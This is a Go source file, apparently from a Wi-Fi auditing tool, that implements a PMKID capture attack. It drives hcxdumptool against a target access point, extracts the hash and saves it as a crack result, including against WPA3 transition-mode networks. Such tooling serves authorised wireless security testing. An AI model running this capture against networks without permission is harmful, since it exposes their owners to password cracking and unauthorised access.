package attack

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/ExclusiveAccount/wifi-auditor/pkg/models"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/results"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/tools"
)

// PMKIDAttack asks the access point for a PMKID with hcxdumptool. The WPA3
// variant runs the same capture against transition-mode networks.
type PMKIDAttack struct {
	kit    *Toolkit
	target models.Target
	kind   models.AttackKind
	logger *logrus.Entry
}

// NewPMKIDAttack creates a PMKID capture technique. kind is AttackPMKID or
// AttackWPA3PMKID.
func NewPMKIDAttack(kit *Toolkit, target models.Target, kind models.AttackKind) *PMKIDAttack {
	return &PMKIDAttack{kit: kit, target: target.Clone(), kind: kind, logger: kit.targetLogger(target, kind)}
}

// Kind implements Technique
func (a *PMKIDAttack) Kind() models.AttackKind {
	return a.kind
}

// Check implements Technique
func (a *PMKIDAttack) Check() error {
	return tools.Require("hcxdumptool", "hcxpcapngtool")
}

// Run implements Technique
func (a *PMKIDAttack) Run(ctx context.Context) (*models.CrackResult, error) {
	cfg := a.kit.Config
	essid := ""
	if a.target.ESSIDKnown {
		essid = a.target.ESSID
	}

	if !cfg.IgnoreOldHandshakes {
		if path, _, ok := results.FindPMKID(cfg.HandshakeDir, a.target.BSSID); ok {
			a.logger.WithField("file", path).Info("Using previously captured PMKID")
			return a.result(path, essid), nil
		}
	}

	line, err := a.capture(ctx)
	if err != nil || line == "" {
		return nil, err
	}

	path, err := results.PreservePMKID(line, cfg.HandshakeDir, essid, a.target.BSSID, time.Now())
	if err != nil {
		return nil, fmt.Errorf("failed to save PMKID: %w", err)
	}
	a.logger.WithField("file", path).Info("Captured PMKID")
	return a.result(path, essid), nil
}

// capture runs hcxdumptool until a hash line for the target can be
// extracted or the PMKID timeout passes
func (a *PMKIDAttack) capture(ctx context.Context) (string, error) {
	cfg := a.kit.Config
	out := filepath.Join(cfg.TempDir, fmt.Sprintf("%s_%s.pcapng", a.kind, tools.StripBSSID(a.target.BSSID)))

	handle, err := a.kit.Hcx.StartDump(a.target.BSSID, a.target.Channel, out)
	if err != nil {
		return "", err
	}
	defer func() {
		_ = handle.Interrupt(cfg.InterruptGrace)
		_ = os.Remove(out)
	}()

	timeout := time.NewTimer(cfg.PMKIDTimeout)
	defer timeout.Stop()
	tick := time.NewTicker(cfg.Tick)
	defer tick.Stop()

	var lastSize int64 = -1
	for {
		select {
		case <-ctx.Done():
			return "", ctx.Err()
		case <-timeout.C:
			if err := ctx.Err(); err != nil {
				return "", err
			}
			a.logger.Infof("No PMKID captured within %s", cfg.PMKIDTimeout)
			return "", nil
		case <-handle.Done():
			code, _ := handle.Poll()
			// whatever it wrote before exiting may still hold the hash
			line, err := a.extract(ctx, out, &lastSize)
			if err != nil || line != "" {
				return line, err
			}
			return "", fmt.Errorf("hcxdumptool exited with status %d: %s", code, handle.Stderr())
		case <-tick.C:
			line, err := a.extract(ctx, out, &lastSize)
			if err != nil || line != "" {
				return line, err
			}
		}
	}
}

// extract looks for the hash only when the capture has grown
func (a *PMKIDAttack) extract(ctx context.Context, out string, lastSize *int64) (string, error) {
	info, err := os.Stat(out)
	if err != nil || info.Size() == *lastSize {
		return "", nil
	}
	*lastSize = info.Size()

	line, err := a.kit.Hcx.ExtractPMKID(ctx, out, a.target.BSSID)
	if err != nil {
		if ctx.Err() != nil {
			return "", ctx.Err()
		}
		a.logger.WithError(err).Debug("Failed to extract PMKID")
		return "", nil
	}
	return line, nil
}

func (a *PMKIDAttack) result(path, essid string) *models.CrackResult {
	return &models.CrackResult{
		Type:  models.ResultPMKID,
		BSSID: a.target.BSSID,
		ESSID: essid,
		File:  path,
		Date:  time.Now(),
	}
}
